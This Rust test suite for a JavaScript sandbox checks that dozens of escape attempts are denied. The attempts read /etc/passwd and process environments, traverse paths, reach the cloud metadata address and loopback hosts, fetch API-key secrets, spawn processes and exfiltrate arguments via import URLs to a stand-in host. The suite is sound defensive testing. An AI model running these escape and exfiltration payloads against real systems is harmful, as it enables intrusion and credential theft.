//! Ways out of a capability, each tried by code that runs in a real worker with the default configuration and no grant.
#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "helpers of tests")]

mod common;

use common::{permit, plan, sandbox};
use jarvis_protocol::{Execution, ExitClass, Limits};
use jarvis_sandbox::{Access, Executor, SandboxConfig};
use serde_json::{Value, json};
use std::path::Path;
use std::time::{Duration, Instant};
use tokio_util::sync::CancellationToken;

async fn execute(sandbox: &Executor, code: &str, args: Value) -> Execution {
    let mut plan = plan(code, args);
    plan.limits = Limits { timeout_ms: 3_000, ..Limits::STANDARD };
    let started = Instant::now();
    let done = sandbox.run(permit(plan), &CancellationToken::new()).await.unwrap();
    assert!(started.elapsed() < Duration::from_secs(6), "{code} took {:?}", started.elapsed());
    done
}

/// Runs the body of `run(args, ctx)`.
async fn attempt(sandbox: &Executor, body: &str) -> Execution {
    execute(sandbox, &format!("export default async function run(args, ctx) {{ {body} }}"), json!({})).await
}

fn in_workspace(workspace: &Path) -> Executor {
    let config = SandboxConfig { worker_exe: env!("CARGO_BIN_EXE_jarvis-worker-test").into(), pool: 1, max_workers: 4 };
    Executor::new(config, Access { workspace: Some(workspace.to_owned()), ..Access::default() })
}

fn told(done: &Execution) -> String {
    done.error.as_ref().map(ToString::to_string).unwrap_or_default()
}

/// What is tried, and what the error says. Every one must throw.
#[rustfmt::skip]
const DENIED: &[(&str, &str, &str)] = &[
    ("read an absolute path", "return await ctx.read('/etc/passwd')", "not granted"),
    ("read above the workspace", "return await ctx.read('../../../../etc/passwd')", "not granted"),
    ("read the environment of the process", "return await ctx.read('/proc/self/environ')", "not granted"),
    ("read with a zero byte", "return await ctx.read('a\\0/etc/passwd')", ""),
    ("read a path that is no text", "return await ctx.read({ toString: () => '/etc/passwd' })", "needs a path"),
    ("read with one that turns into another", "let n = 0; return await ctx.read(new String('/etc/passwd'))", "needs a path"),
    ("write an absolute path", "return await ctx.write('/tmp/x', 'y')", "not granted"),
    ("write above the workspace", "return await ctx.write('../x', 'y')", "not granted"),
    ("list the root", "return await ctx.list('/')", "not granted"),
    ("read a file by fetch", "return (await fetch('file:///etc/passwd')).status", ""),
    ("fetch a public host without a grant", "return (await fetch('https://example.com/')).status", "not granted"),
    ("the metadata address", "return (await fetch('http://169.254.169.254/latest/meta-data/')).status", "not granted"),
    ("the loopback address", "return (await fetch('http://127.0.0.1:22/')).status", "not granted"),
    ("the loopback address as a number", "return (await fetch('http://2130706433/')).status", "not granted"),
    ("the loopback address in hexadecimal", "return (await fetch('http://0x7f.1/')).status", "not granted"),
    ("localhost by name", "return (await fetch('http://localhost:8080/')).status", "not granted"),
    ("IPv6 loopback", "return (await fetch('http://[::1]/')).status", "not granted"),
    ("IPv4 in IPv6", "return (await fetch('http://[::ffff:127.0.0.1]/')).status", "not granted"),
    ("a private network", "return (await fetch('http://10.0.0.1/')).status", "not granted"),
    ("a host behind a user name", "return (await fetch('https://example.com@127.0.0.1/')).status", "holds a user"),
    ("other schemes", "return (await fetch('ftp://example.com/')).status", ""),
    ("data as a URL", "return (await fetch('data:text/plain,hi')).status", ""),
    ("a URL that changes while it is looked at", "let n = 0; return (await fetch({ toString: () => n++ ? 'http://127.0.0.1/' : 'https://example.com/' })).status", "not granted"),
    ("a web socket", "return new WebSocket('ws://127.0.0.1/')", "WebSocket is not available"),
    ("an old request", "return new XMLHttpRequest()", "XMLHttpRequest is not available"),
    ("listen", "return Deno.listen({ port: 0 })", "Deno is not available"),
    ("a secret by name", "return await ctx.secret('OPENAI_API_KEY')", "not granted"),
    ("a secret by a name that is a path", "return await ctx.secret('../config/key')", "not granted"),
    ("the environment", "return process.env", "process is not available"),
    ("the environment by Deno", "return Deno.env.toObject()", "Deno is not available"),
    ("start a program", "return require('child_process').execSync('id')", ""),
    ("the engine's own library", "return std.popen('id', 'r')", "std is not defined"),
    ("the engine's own system calls", "return os.exec(['id'])", "os is not defined"),
    ("end the process", "return process.exit(0)", "process is not available"),
    ("another thread", "return new Worker('data:text/javascript,1')", "Worker is not available"),
    ("shared memory with nobody", "return Atomics.wait(new Int32Array(new SharedArrayBuffer(8)), 0, 0, 1e9)", ""),
    ("machine code", "return new WebAssembly.Module(new Uint8Array(8))", "WebAssembly is not available"),
    ("another capability", "return await ctx.call('other', {})", "nothing can be called here"),
    ("change what ctx can do", "ctx.read = () => 'mine'; return ctx.read('x')", ""),
    ("a module by a constructed function", "return (await new Function('s', 'return import(s)')('/etc/passwd')).default", ""),
    ("a module by eval", "return await eval('im' + 'port(\"file:///etc/passwd\")')", ""),
    ("a module by an indirect eval", "return await (0, eval)('import(\"../../../../etc/passwd\")')", ""),
    ("the engine's modules", "return await new Function('return import(\"qjs:os\")')()", ""),
    ("an asynchronous constructor", "return await Object.getPrototypeOf(async () => {}).constructor('return import(\"/etc/hostname\")')()", ""),
    ("answer the broker in its place", "return host.answer(1, '{}', new Uint8Array())", "host is not defined"),
    ("the functions of the layer", "return native.ask(1, '{}', new Uint8Array())", "native is not defined"),
    ("its caller", "return run.caller", ""),
    ("the caller's arguments", "return (function f() { return f.arguments })()", ""),
];

#[tokio::test]
async fn every_way_out_is_denied_and_says_so() {
    let sandbox = sandbox();
    let mut open = Vec::new();
    for (name, body, says) in DENIED {
        let done = attempt(&sandbox, body).await;
        let message = told(&done);
        let leaked = message.contains("root:") || done.printed.contains("root:");
        if !matches!(done.exit, ExitClass::Threw | ExitClass::Rejected) || !message.contains(says) || leaked {
            open.push(format!("{name}: {:?} {:?} {message}", done.exit, done.result));
        }
    }
    assert!(DENIED.len() >= 45, "cases were lost");
    assert!(open.is_empty(), "{}", open.join("\n"));
}

/// Tricks with prototypes, getters and arguments, and the value that must come out all the same.
#[rustfmt::skip]
const HARMLESS: &[(&str, &str, &str)] = &[
    ("a getter for what the layer puts into requests", "Object.defineProperty(Object.prototype, 'op', { get: () => 'read', set() {} }); return await ctx.list('/').catch(e => e.name)", r#""PermissionError""#),
    ("a setter that would catch the answer", "const seen = []; Object.defineProperty(Object.prototype, 'error', { set(v) { seen.push(v) }, configurable: true }); await ctx.read('/x').catch(() => {}); return seen", "[]"),
    ("toJSON on every object", "Object.prototype.toJSON = () => ({ op: 'secret', name: 'TOKEN' }); return await ctx.read('/x').catch(e => e.name)", r#""PermissionError""#),
    ("a prototype in the text of JSON", "const o = JSON.parse('{\"__proto__\":{\"admin\":true}}'); return [o.admin === undefined, ({}).admin === undefined]", "[true,true]"),
    ("the constructor of constructors", "const g = (() => {}).constructor('return this')(); return [typeof g.process, typeof g.std, typeof g.native]", r#"["undefined","undefined","undefined"]"#),
    ("a thenable as the result", "return { then(r) { r({ then(q) { q(7) } }) } }", "7"),
    ("a proxy as the result", "return new Proxy({ a: 1 }, { ownKeys: () => ['a', 'b'], get: (t, k) => k === 'b' ? undefined : t[k], getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: 1 }) })", r#"{"a":1}"#),
    ("an array that lies about its length", "const a = [1, 2]; Object.defineProperty(a, Symbol.iterator, { value: function* () { yield 'forged' } }); return a", "[1,2]"),
    ("an error whose parts throw", "try { throw { get message() { throw 1 }, get name() { throw 2 } } } catch { return 'caught' }", r#""caught""#),
    ("a species that makes other arrays", "class A extends Array { static get [Symbol.species]() { throw 1 } } return Array.from(new A(1, 2))", "[1,2]"),
    ("what a replaced Promise sees", "const seen = []; const P = Promise; globalThis.Promise = class extends P { constructor(f) { super(f); seen.push(1) } }; await ctx.read('/x').catch(() => {}); globalThis.Promise = P; return typeof seen.length", r#""number""#),
    ("a frozen global object", "Object.freeze(globalThis); return 1", "1"),
    ("many names in one object", "const o = {}; for (let i = 0; i < 1e4; i++) o['k' + i] = 1; return Object.keys(o).length", "10000"),
    ("text that ends in half a character", "return ['\\ud83d', 'a\\udc00'].map(s => s.length)", "[1,2]"),
];

#[tokio::test]
async fn tricks_with_prototypes_and_arguments_change_nothing_outside() {
    let sandbox = sandbox();
    let mut wrong = Vec::new();
    for (name, body, right) in HARMLESS {
        let done = attempt(&sandbox, body).await;
        let right: Value = serde_json::from_str(right).unwrap();
        if done.result.as_ref() != Some(&right) {
            wrong.push(format!("{name}: {:?} {}", done.result, told(&done)));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Code that ends badly, by its own fault: how it ends, and what the error says.
#[rustfmt::skip]
const BAD: &[(&str, &str, ExitClass, &str)] = &[
    ("does not parse", "export default () => {\n\n  retrun 1 +;\n}", ExitClass::Rejected, "(line 3)"),
    ("is no code", "水", ExitClass::Threw, "(line 1)"),
    ("is empty", "", ExitClass::Rejected, "no code"),
    ("throws", "export default () => {\n  throw new RangeError('mine')\n}", ExitClass::Threw, "RangeError: mine (line 2)"),
    ("throws while it loads", "const a = null\na.b\nexport default () => 1", ExitClass::Threw, "(line 2)"),
    ("throws null", "export default () => { throw null }", ExitClass::Threw, "null"),
    ("rejects", "export default async () => {\n\n  await Promise.reject(new TypeError('mine'))\n}", ExitClass::Threw, "TypeError: mine (line 3)"),
    ("never settles", "export default () => new Promise(() => {})", ExitClass::Threw, "never settles"),
    ("returns nothing", "export default () => {}", ExitClass::Threw, "returned nothing"),
    ("returns a cycle", "export default () => { const a = []; a.push(a); return a }", ExitClass::Threw, "cycle"),
    ("returns a function", "export default () => () => 1", ExitClass::Threw, "a function"),
    ("returns NaN", "export default () => ({ a: 0 / 0 })", ExitClass::Threw, "the result.a is NaN"),
    ("returns 50 MB", "export default () => 'x'.repeat(50 << 20)", ExitClass::Output, "more than 1048576 bytes"),
    ("returns an array of four thousand million", "export default () => new Array(2 ** 32 - 1)", ExitClass::Output, ""),
    ("prints 20 MB", "export default () => { console.log('x'.repeat(20 << 20)); return 1 }", ExitClass::Output, "more than 1048576 bytes"),
    ("prints in small pieces without end", "export default () => { for (;;) console.log('x'.repeat(1000)) }", ExitClass::Output, ""),
    ("prints half a character", "export default () => { console.log('a\\ud800b'); throw new Error('after') }", ExitClass::Threw, "after"),
    ("returns many long texts", "export default () => new Array(1000).fill('x'.repeat(1 << 16))", ExitClass::Output, ""),
    ("recurses without end", "const f = () => f() + 1\nexport default () => f()", ExitClass::Threw, "(line 1)"),
    ("promises without end", "export default async () => { const all = []; for (;;) all.push(new Promise(() => {})) }", ExitClass::Memory, ""),
    ("backtracks without end", "export default () => /(x+x+)+y/.test('x'.repeat(60))", ExitClass::Timeout, "3000 ms"),
    ("is an object", "export default { run: 1 }", ExitClass::Rejected, "an object"),
    ("exports no function", "export default 5", ExitClass::Threw, "not a function"),
    ("exports null", "export default null", ExitClass::Threw, "not a function"),
    ("uses a name that is not there", "export default () => {\n  return nothing.here\n}", ExitClass::Threw, "(line 2)"),
    ("calls a timer with text", "export default () => setTimeout('x()', 1)", ExitClass::Threw, "must be a function"),
    ("throws in a timer", "export default () => new Promise(() => setTimeout(() => { throw new Error('late') }, 1))", ExitClass::Threw, "late"),
    ("throws in a microtask", "export default () => new Promise(() => queueMicrotask(() => { throw new Error('soon') }))", ExitClass::Threw, "soon"),
];

#[tokio::test]
async fn bad_code_ends_with_the_right_class_and_the_persons_own_line() {
    let sandbox = sandbox();
    let mut wrong = Vec::new();
    for (name, code, exit, says) in BAD {
        let done = execute(&sandbox, code, json!({})).await;
        let message = told(&done);
        if done.exit != *exit || !message.contains(says) || done.result.is_some() || message.is_empty() {
            wrong.push(format!("{name}: {:?} {:?} {message}", done.exit, done.result.map(|_| "a result")));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

// ---- the holes of an earlier sandbox, each by its own name ---------------------------------------------------------

#[tokio::test]
async fn a_static_import_of_an_absolute_path_leaks_nothing_not_even_in_the_error() {
    let outside = tempfile::tempdir().unwrap();
    let file = outside.path().join("note.txt");
    std::fs::write(&file, "canary-7781 is no javascript").unwrap();
    let code = format!("import text from '{}';\nexport default () => text", file.display());
    let done = execute(&sandbox(), &code, json!({})).await;
    assert_eq!(done.exit, ExitClass::Rejected);
    assert!(!format!("{done:?}").contains("canary-7781"));
}

#[tokio::test]
async fn imports_cannot_carry_data_out_in_their_url() {
    for code in [
        "import 'https://collect.example/?k=1'; export default () => 1",
        "export * from 'https://collect.example/x.js'",
        "export default async (a) => import(`https://collect.example/?${JSON.stringify(a)}`)",
        "import x from 'npm:left-pad'; export default () => x",
        "import x from 'jsr:@std/fs'; export default () => x",
        "import data from './secret.json' with { type: 'json' }; export default () => data",
    ] {
        let done = execute(&sandbox(), code, json!({"key": "v"})).await;
        assert_eq!((done.exit, done.error.unwrap().name.as_str()), (ExitClass::Rejected, "ImportError"), "{code}");
        assert!(done.isolation.is_empty(), "nothing ran");
    }
}

#[tokio::test]
async fn without_a_list_of_hosts_no_host_is_allowed() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!("http://127.0.0.1:{}/", listener.local_addr().unwrap().port());
    let done = attempt(&sandbox(), &format!("return (await fetch('{url}')).status")).await;
    assert!(told(&done).contains("not granted"), "{done:?}");
    assert!(listener.accept().is_err(), "nobody connected");
}

#[cfg(unix)]
#[tokio::test]
async fn links_in_the_workspace_lead_nowhere_outside() {
    let (workspace, outside) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    std::fs::write(outside.path().join("secret.txt"), "canary-7782").unwrap();
    std::os::unix::fs::symlink(outside.path(), workspace.path().join("dir")).unwrap();
    std::os::unix::fs::symlink(outside.path().join("secret.txt"), workspace.path().join("link.txt")).unwrap();
    let sandbox = in_workspace(workspace.path());
    for body in [
        "return await ctx.read('link.txt')",
        "return await ctx.read('dir/secret.txt')",
        "await ctx.write('link.txt', 'spoiled'); return 1",
        "await ctx.write('dir/new.txt', 'spoiled'); return 1",
    ] {
        let mut plan = plan(&format!("export default async function run(args, ctx) {{ {body} }}"), json!({}));
        plan.grants.read = vec![".".to_owned()];
        plan.grants.write = vec![".".to_owned()];
        let done = sandbox.run(permit(plan), &CancellationToken::new()).await.unwrap();
        assert_eq!(done.exit, ExitClass::Threw, "{body}: {done:?}");
        assert!(!format!("{done:?}").contains("canary-7782"), "{body}");
    }
    assert_eq!(std::fs::read_to_string(outside.path().join("secret.txt")).unwrap(), "canary-7782");
    assert!(!outside.path().join("new.txt").exists());
}

#[tokio::test]
async fn a_comma_in_the_path_of_the_workspace_adds_no_second_directory() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.txt"), "canary-7783").unwrap();
    let home = tempfile::tempdir().unwrap();
    let workspace = home.path().join(format!("a,{}", outside.path().display()).replace('/', "_").replace("a,_", "a,"));
    std::fs::create_dir(&workspace).unwrap();
    std::fs::write(workspace.join("own.txt"), "own").unwrap();
    let sandbox = in_workspace(&workspace);
    let read = |path: String| {
        let mut plan = plan("export default ({ path }, ctx) => ctx.read(path)", json!({ "path": path }));
        plan.grants.read = vec![".".to_owned()];
        plan
    };
    let own = sandbox.run(permit(read("own.txt".to_owned())), &CancellationToken::new()).await.unwrap();
    assert_eq!(own.result, Some(json!("own")), "{own:?}");
    let other = outside.path().join("secret.txt").display().to_string();
    let done = sandbox.run(permit(read(other)), &CancellationToken::new()).await.unwrap();
    assert_eq!(done.exit, ExitClass::Threw, "{done:?}");
}

#[tokio::test]
async fn four_gigabytes_are_not_to_be_had() {
    let code = "export default () => { const all = []; for (let i = 0; i < 4096; i++) all.push(new Uint8Array(1 << 20).fill(1)); return all.length }";
    let done = execute(&sandbox(), code, json!({})).await;
    assert_eq!(done.exit, ExitClass::Memory, "{done:?}");
    assert!(done.peak_memory_kb < 400 << 10, "{done:?}");
}

#[tokio::test]
async fn a_capability_cannot_rewrite_what_is_registered_even_where_it_may_write() {
    let workspace = tempfile::tempdir().unwrap();
    let home = workspace.path().join("jarvis-home");
    std::fs::create_dir_all(home.join("tools")).unwrap();
    std::fs::write(home.join("registry.json"), "{}").unwrap();
    let config = SandboxConfig { worker_exe: env!("CARGO_BIN_EXE_jarvis-worker-test").into(), pool: 1, max_workers: 4 };
    let access =
        Access { workspace: Some(workspace.path().to_owned()), denied: vec![home.clone()], ..Access::default() };
    let sandbox = Executor::new(config, access);
    for path in ["jarvis-home/registry.json", "jarvis-home/tools/new.ts", "x/../jarvis-home/tools/new.ts"] {
        let mut plan =
            plan("export default ({ path }, ctx) => ctx.write(path, 'x').then(() => 1)", json!({ "path": path }));
        plan.grants.write = vec![".".to_owned()];
        let done = sandbox.run(permit(plan), &CancellationToken::new()).await.unwrap();
        assert_eq!(done.exit, ExitClass::Threw, "{path}: {done:?}");
    }
    assert_eq!(std::fs::read_to_string(home.join("registry.json")).unwrap(), "{}");
    assert!(!home.join("tools/new.ts").exists());
}

#[tokio::test]
async fn arguments_are_never_part_of_the_source() {
    let args: Value = serde_json::from_str(
        r#"{"__proto__": {"polluted": 1}, "a": "`); throw 1; (`", "b": "\u2028*/ //", "constructor": {"prototype": 1}}"#,
    )
    .unwrap();
    let code = "export default (args) => [({}).polluted === undefined, Object.keys(args).length, args.a, args.b]";
    let done = execute(&sandbox(), code, args).await;
    assert_eq!(done.result, Some(json!([true, 4, "`); throw 1; (`", "\u{2028}*/ //"])), "{done:?}");
    // Code that declares a variable of that name.
    let code = "const args = { n: 2 };\nexport default () => args.n";
    assert_eq!(execute(&sandbox(), code, json!({"n": 1})).await.result, Some(json!(2)));
    // What is no object reaches the code as it is, and is no source either.
    for odd in [json!(null), json!(["a"]), json!("`${1}`"), json!(3)] {
        let done = execute(&sandbox(), "export default (args) => ({ args })", odd.clone()).await;
        assert_eq!(done.result, Some(json!({ "args": odd })), "{done:?}");
    }
}

#[tokio::test]
async fn configuration_beside_the_code_is_not_honoured() {
    let workspace = tempfile::tempdir().unwrap();
    for name in ["deno.json", "package.json", "tsconfig.json", "import_map.json"] {
        let text = r#"{"imports": {"x": "./evil.js"}, "permissions": {"default": true}, "compilerOptions": {"types": ["./evil.js"]}}"#;
        std::fs::write(workspace.path().join(name), text).unwrap();
    }
    std::fs::write(workspace.path().join("evil.js"), "export default 'canary-7784'").unwrap();
    let sandbox = in_workspace(workspace.path());
    for code in ["import x from 'x'; export default () => x", "import x from './evil.js'; export default () => x"] {
        assert_eq!(execute(&sandbox, code, json!({})).await.exit, ExitClass::Rejected);
    }
    let done = attempt(&sandbox, "return (await new Function('return import(\"./evil.js\")')()).default").await;
    assert_eq!(done.exit, ExitClass::Threw, "{done:?}");
}

#[tokio::test]
async fn reading_the_standard_input_is_an_error_and_no_wait() {
    let sandbox = sandbox();
    for body in [
        "return prompt('name?')",
        "return Deno.stdin.readSync(new Uint8Array(1))",
        "return process.stdin.read()",
        "return readline()",
    ] {
        let started = Instant::now();
        let done = attempt(&sandbox, body).await;
        assert_eq!(done.exit, ExitClass::Threw, "{body}: {done:?}");
        assert!(started.elapsed() < Duration::from_secs(2));
    }
}

#[tokio::test]
async fn nothing_of_the_environment_reaches_the_code() {
    let body = "const seen = []; const look = (o, d) => { if (d > 3 || o === null || (typeof o !== 'object' && typeof o !== 'function')) { if (typeof o === 'string') seen.push(o); return } for (const k of Object.getOwnPropertyNames(o)) { seen.push(k); let v; try { v = o[k] } catch { continue } look(v, d + 1) } }; look(globalThis, 0); return seen.join('\\n')";
    let done = attempt(&sandbox(), body).await;
    let all = done.result.as_ref().and_then(Value::as_str).unwrap_or_else(|| panic!("{done:?}"));
    assert!(all.contains("structuredClone"), "it looked around");
    for (name, value) in std::env::vars().filter(|(_, value)| value.len() >= 8) {
        assert!(!all.lines().any(|line| line == value), "{name} is visible");
    }
}

#[tokio::test]
async fn printed_text_is_never_cut_inside_a_character() {
    let mut plan =
        plan("export default () => { for (let i = 0; i < 5000; i++) console.log('水😀é'); return 1 }", json!({}));
    plan.limits.output_bytes = 10_001;
    let done = sandbox().run(permit(plan), &CancellationToken::new()).await.unwrap();
    assert_eq!(done.exit, ExitClass::Output);
    assert!(done.printed.len() > 9_990 && done.printed.len() <= 10_001 && !done.printed.contains('\u{fffd}'));
}

#[tokio::test]
async fn relative_paths_are_meant_from_the_workspace_and_not_from_where_jarvis_runs() {
    let workspace = tempfile::tempdir().unwrap();
    std::fs::write(workspace.path().join("Cargo.toml"), "of the workspace").unwrap();
    let mut plan = plan("export default (args, ctx) => ctx.read('Cargo.toml')", json!({}));
    plan.grants.read = vec!["Cargo.toml".to_owned()];
    let done = in_workspace(workspace.path()).run(permit(plan), &CancellationToken::new()).await.unwrap();
    assert_eq!(done.result, Some(json!("of the workspace")), "{done:?}");
}

#[tokio::test]
async fn denied_directories_are_denied_however_they_are_written() {
    let home = tempfile::tempdir().unwrap();
    let denied = home.path().join("private");
    std::fs::create_dir(&denied).unwrap();
    std::fs::write(denied.join("key"), "canary-7785").unwrap();
    let config = SandboxConfig { worker_exe: env!("CARGO_BIN_EXE_jarvis-worker-test").into(), pool: 1, max_workers: 4 };
    let access = Access { workspace: Some(home.path().to_owned()), denied: vec![denied.clone()], ..Access::default() };
    let sandbox = Executor::new(config, access);
    let absolute = denied.join("key").display().to_string();
    for path in ["private/key", "./private//key", "private/./key", "x/../private/key", &absolute] {
        let mut plan = plan("export default ({ path }, ctx) => ctx.read(path)", json!({ "path": path }));
        plan.grants.read = vec![".".to_owned(), home.path().display().to_string()];
        let done = sandbox.run(permit(plan), &CancellationToken::new()).await.unwrap();
        assert_eq!(done.exit, ExitClass::Threw, "{path}: {done:?}");
        assert!(!format!("{done:?}").contains("canary-7785"));
    }
}

#[test]
fn limits_of_nothing_or_without_end_are_refused_before_anything_runs() {
    use jarvis_policy::{Approved, Decision, Policy, decide};
    let standard = Limits::STANDARD;
    for limits in [
        Limits { timeout_ms: 0, ..standard },
        Limits { memory_mb: 0, ..standard },
        Limits { output_bytes: 0, ..standard },
        Limits { timeout_ms: u64::MAX, ..standard },
        Limits { memory_mb: u64::MAX, ..standard },
        Limits { memory_mb: 1 << 44, ..standard },
        Limits { output_bytes: u64::MAX, ..standard },
    ] {
        let mut plan = plan("export default () => 1", json!({}));
        plan.limits = limits;
        assert!(matches!(decide(&Policy::closed(), plan, &Approved::nothing()), Decision::Deny(_)), "{limits:?}");
    }
}

#[tokio::test]
async fn the_smallest_limits_that_may_be_asked_for_end_in_words() {
    let least = Limits { timeout_ms: 1, memory_mb: 1, output_bytes: 1 };
    for (limits, exits) in [
        (least, [ExitClass::Timeout, ExitClass::Memory].as_slice()),
        (Limits { timeout_ms: 3000, ..least }, [ExitClass::Memory].as_slice()),
        (Limits { memory_mb: 16, timeout_ms: 3000, output_bytes: 1 }, [ExitClass::Output].as_slice()),
    ] {
        let mut plan = plan("export default () => new Array(1e5).fill('x').join('')", json!({}));
        plan.limits = limits;
        let done = sandbox().run(permit(plan), &CancellationToken::new()).await.unwrap();
        assert!(exits.contains(&done.exit), "{limits:?}: {done:?}");
        assert!(!told(&done).is_empty());
    }
}
